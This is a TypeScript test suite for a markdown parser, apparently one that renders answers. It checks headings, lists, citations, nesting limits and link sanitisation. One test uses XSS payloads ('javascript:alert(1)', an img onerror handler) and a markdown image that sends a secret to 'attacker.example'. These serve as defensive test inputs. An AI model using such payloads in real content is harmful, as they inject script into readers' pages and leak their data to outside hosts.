import { expect } from 'chai';
import { plainText, safeUrl, type Inline } from './inline.js';
import { parseBlocks, type MdBlock } from './parse.js';

/** The inline nodes of a text that is one paragraph. */
function inline(src: string): Inline[] {
  const [block, more] = parseBlocks(src);
  expect(more, src).to.equal(undefined);
  if (block?.t !== 'p') throw new Error(`not a paragraph: ${src}`);
  return block.inline;
}

/** How deep lists and quotes nest in `blocks`. */
function depth(blocks: MdBlock[]): number {
  return Math.max(
    0,
    ...blocks.map((block) =>
      block.t === 'quote'
        ? 1 + depth(block.blocks)
        : block.t === 'list'
          ? 1 + Math.max(0, ...block.items.map(depth))
          : 0,
    ),
  );
}

/** All the text `blocks` show, as one string. */
function shownText(blocks: MdBlock[]): string {
  return blocks
    .map((block) => {
      switch (block.t) {
        case 'quote':
          return shownText(block.blocks);
        case 'list':
          return block.items.map(shownText).join('');
        case 'p':
        case 'text':
        case 'h':
          return plainText(block.inline);
        case 'code':
        case 'html':
          return block.text;
        default:
          return '';
      }
    })
    .join('');
}

describe('markdown parser', () => {
  it('takes a heading’s closing #s only after a space or a tab, as CommonMark does', () => {
    const text = (line: string) => {
      const [block] = parseBlocks(line);
      return block?.t === 'h' ? plainText(block.inline) : `not a heading: ${block?.t}`;
    };
    const cases: [string, string][] = [
      ['## Findings ##', 'Findings'],
      ['## Findings ##   ', 'Findings'],
      ['## Findings#', 'Findings#'],
      ['## ##', ''],
      ['###### #', ''],
      ['#', ''],
      ['# #foo', '#foo'],
      ['## a \\#', 'a #'], // an escaped # is text
    ];
    for (const [line, shown] of cases) expect(text(line), line).to.equal(shown);
    expect(text('#foo')).to.equal('not a heading: p');
    expect(text('####### seven')).to.equal('not a heading: p');
  });

  it('reads headings, paragraphs, tight and loose lists, quotes, code, tables and rules', () => {
    const blocks = parseBlocks(
      '# Title\n\nSome *em* and **strong** and `code`.\n\n- one\n- two\n  - nested\n\n' +
        '3. first\n\n4. second\n\n> quoted\n\n```ts\nconst a = 1;\n```\n\n' +
        '| A | B |\n|:--|--:|\n| 1 | 2 |\n\n---',
    );
    expect(blocks.map((b) => b.t)).to.deep.equal([
      'h',
      'p',
      'list',
      'list',
      'quote',
      'code',
      'table',
      'hr',
    ]);
    expect(blocks[1]).to.deep.equal({
      t: 'p',
      inline: [
        'Some ',
        { t: 'em', children: ['em'] },
        ' and ',
        { t: 'strong', children: ['strong'] },
        ' and ',
        { t: 'code', text: 'code' },
        '.',
      ],
    });
    // A tight list's items hold their text without a paragraph; a blank line makes it loose.
    const tight = blocks[2] as Extract<MdBlock, { t: 'list' }>;
    expect(tight.loose).to.equal(false);
    expect(tight.items[1]!.map((b) => b.t)).to.deep.equal(['text', 'list']);
    expect(blocks[3]).to.deep.include({ ordered: true, start: 3, loose: true });
    expect((blocks[3] as Extract<MdBlock, { t: 'list' }>).items[1]).to.deep.equal([
      { t: 'p', inline: ['second'] },
    ]);
    expect(blocks[5]).to.deep.equal({ t: 'code', lang: 'ts', text: 'const a = 1;' });
    expect(blocks[6]).to.deep.include({ align: ['start', 'end'] });
  });

  it('reads a task list’s boxes, and a table right under a line of text', () => {
    const [list] = parseBlocks('- [ ] todo\n- [x] done');
    expect(list).to.deep.include({
      items: [
        [{ t: 'text', inline: [{ t: 'check', checked: false }, ' ', 'todo'] }],
        [{ t: 'text', inline: [{ t: 'check', checked: true }, ' ', 'done'] }],
      ],
    });
    expect(parseBlocks('Flows:\n| A | B |\n|---|---|\n| 1 | 2 |').map((b) => b.t)).to.deep.equal([
      'p',
      'table',
    ]);
  });

  it('keeps only http(s) links, and never turns HTML into anything but text', () => {
    expect(safeUrl('javascript:alert(1)')).to.equal(null);
    expect(safeUrl('JaVaScRiPt:alert(1)')).to.equal(null);
    expect(safeUrl('data:text/html,x')).to.equal(null);
    expect(safeUrl('/relative')).to.equal(null);
    expect(safeUrl('https://example.com/a b')).to.equal('https://example.com/a%20b');
    expect(safeUrl('https://example.com/?q=1&amp;r=%20')).to.equal(
      'https://example.com/?q=1&r=%20',
    );
    expect(inline('[x](javascript:alert%281%29) [y](javascript:alert(1))')).to.deep.equal([
      { t: 'link', href: null, title: '', children: ['x'] },
      ' ',
      { t: 'link', href: null, title: '', children: ['y'] },
    ]);
    expect(inline('a <img src=x onerror=alert(1)> b')).to.deep.equal([
      'a ',
      { t: 'html', text: '<img src=x onerror=alert(1)>' },
      ' b',
    ]);
    expect(parseBlocks('<div>\n*hi*\n</div>')).to.deep.equal([
      { t: 'html', text: '<div>\n*hi*\n</div>' },
    ]);
    expect(inline('![secret](https://attacker.example/?q=secret "t")')).to.deep.equal([
      { t: 'image', alt: 'secret', href: 'https://attacker.example/?q=secret' },
    ]);
  });

  it('links bare URLs and www. without trailing punctuation, and reads escapes and entities', () => {
    expect(
      inline('see https://example.com/wiki/Pump_(device). and www.example.com, snake_case'),
    ).to.deep.equal([
      'see ',
      {
        t: 'link',
        href: 'https://example.com/wiki/Pump_(device)',
        title: '',
        children: ['https://example.com/wiki/Pump_(device)'],
      },
      '. and ',
      { t: 'link', href: 'http://www.example.com', title: '', children: ['www.example.com'] },
      ', snake_case',
    ]);
    expect(inline('\\*not em\\* \\$5 a&nbsp;b &copy; &#x41; &bogus;')).to.deep.equal([
      '*not em* $5 a\u00a0b © A &bogus;',
    ]);
    expect(inline('***both*** and **a *b***')).to.deep.equal([
      { t: 'em', children: [{ t: 'strong', children: ['both'] }] },
      ' and ',
      { t: 'strong', children: ['a ', { t: 'em', children: ['b'] }] },
    ]);
    expect(inline('**`**kwargs`**')).to.deep.equal([
      { t: 'strong', children: [{ t: 'code', text: '**kwargs' }] },
    ]);
  });

  it('uses a link reference definition, and shows it as nothing', () => {
    expect(parseBlocks('[use][ref]\n\n[ref]: https://e.com/r "T"')).to.deep.equal([
      {
        t: 'p',
        inline: [{ t: 'link', href: 'https://e.com/r', title: 'T', children: ['use'] }],
      },
    ]);
  });

  it('reads [N] as a citation, but not in code, in a link, in a reference or escaped', () => {
    expect(inline('grew [1], cloud [2][3].')).to.deep.equal([
      'grew ',
      { t: 'cite', n: 1 },
      ', cloud ',
      { t: 'cite', n: 2 },
      { t: 'cite', n: 3 },
      '.',
    ]);
    expect(inline('[1](https://example.com/) [see [2]](https://example.com/)')).to.deep.equal([
      { t: 'link', href: 'https://example.com/', title: '', children: ['1'] },
      ' ',
      { t: 'link', href: 'https://example.com/', title: '', children: ['see [2]'] },
    ]);
    expect(inline('`[1]` [text][1] [1][] \\[2] [0] [1234]')).to.deep.equal([
      { t: 'code', text: '[1]' },
      ' [text][1] [1][] [2] [0] [1234]',
    ]);
    expect(parseBlocks('[1]: https://example.com/\n[2]: https://example.com/b')).to.deep.equal([]);
  });

  it('reads markdown nested past any answer’s depth as text, and loses none of it', () => {
    const nested = {
      quotes: '> '.repeat(3_000) + 'end',
      'quotes without spaces': '>'.repeat(3_000) + 'end',
      bullets: '- '.repeat(3_000) + 'end',
      numbers: '1. '.repeat(3_000) + 'end',
      indents: Array.from({ length: 300 }, (_, i) => ' '.repeat(2 * i) + '- item').join('\n'),
      tabs: Array.from({ length: 300 }, (_, i) => '\t'.repeat(i) + '- item').join('\n'),
    };
    for (const [name, text] of Object.entries(nested)) {
      const blocks = parseBlocks(text);
      expect(depth(blocks), name).to.be.within(12, 48);
      const letters = (s: string) => s.replace(/[^a-z]/g, '');
      expect(letters(shownText(blocks)), name).to.equal(letters(text));
    }
    // Emphasis, strikethrough and images nested thousands deep: 16 levels, then the text as it
    // is, all of it (and at once: reading each level again once took seconds).
    const inner = (open: string, close: string, levels: number) =>
      open.repeat(5_000 - levels) + 'b' + close.repeat(5_000 - levels);
    const emphasis = '**a '.repeat(5_000) + 'b' + ' c**'.repeat(5_000);
    expect(shownText(parseBlocks(emphasis))).to.equal(
      'a '.repeat(16) + inner('**a ', ' c**', 16) + ' c'.repeat(16),
    );
    const strike = '~~a '.repeat(5_000) + 'b' + ' c~~'.repeat(5_000);
    expect(shownText(parseBlocks(strike))).to.equal(
      'a '.repeat(16) + inner('~~a ', ' c~~', 16) + ' c'.repeat(16),
    );
    const images = '![a '.repeat(5_000) + 'b' + '](https://e.com/i)'.repeat(5_000);
    const letters = (s: string) => s.replace(/[^ab]/g, '');
    expect(letters(shownText(parseBlocks(images)))).to.equal(letters(images));
  });

  it('keeps nesting an answer could have, and code indented as deep as it is', () => {
    const list = Array.from({ length: 12 }, (_, i) => '  '.repeat(i) + '- level').join('\n');
    expect(depth(parseBlocks(list))).to.equal(12);
    const code = '```\n' + ' '.repeat(120) + '- deep\n```';
    expect(parseBlocks(code)).to.deep.equal([
      { t: 'code', lang: '', text: ' '.repeat(120) + '- deep' },
    ]);
  });
});
